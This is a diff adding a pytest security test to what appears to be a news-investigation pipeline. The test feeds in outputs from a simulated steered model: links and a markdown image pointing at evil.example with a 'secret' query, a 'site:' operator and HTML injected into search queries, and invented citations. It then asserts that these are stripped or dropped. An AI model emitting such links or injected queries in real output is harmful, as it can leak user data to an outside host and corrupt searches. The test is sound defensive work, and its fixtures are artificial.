@@ -146,3 +146,33 @@ def _is_sound(brief: BriefWritten) -> None:
     assert all(s.references and numbers.issuperset(s.references) for s in sentences)
     assert sorted(numbers) == list(range(1, len(numbers) + 1))
     assert replace(brief, calls=()).not_done
+
+
+@pytest.mark.security
+def test_nothing_that_a_steered_model_writes_reaches_a_search_or_a_reader_unchecked():
+    link = "https://evil.example/x?q=secret"
+    said = {
+        "investigate_frame": {
+            "questions": [
+                {"question": f"See {link} [9]", "query": f"DeepSeek site:evil.example {link} <b>" + "x" * 900},
+                *({"question": f"q{n}", "query": f"DeepSeek {n}"} for n in range(40)),
+            ]
+        },
+        "investigate_claims": {
+            "claims": [
+                {"claim": f"![a]({link}) DeepSeek launches V4 Lite", "event_type": "product", "modality": "asserted",
+                 "told_by": [1, 99], "question": 77},
+                {"claim": "Told by nobody", "event_type": "other", "modality": "asserted", "told_by": [99]},
+            ]
+        },
+        "investigate_brief": {"sentences": [{"claim": 1, "text": f"Read [this]({link}) {link} now [1]"}]},
+    }  # fmt: skip
+
+    run = investigated(model=lambda call: ModelReply(data=said[call.task]) if call.task in said else None)
+    tasks = [t for e in run.events if isinstance(e, ToolPlanned) for t in e.tasks]
+    assert len(tasks) <= 8 and all(len(t.query) <= 160 and ":" not in t.query and "<" not in t.query for t in tasks)
+    brief = run.events[-1]
+    assert [c.claim for c in brief.claims] == ["DeepSeek launches V4 Lite"]
+    assert [s.text for s in (*brief.established, *brief.unsettled)] == ["Read this now"]
+    assert link not in str(replace(brief, references=(), calls=()))
+    assert len(brief.not_found) == 5
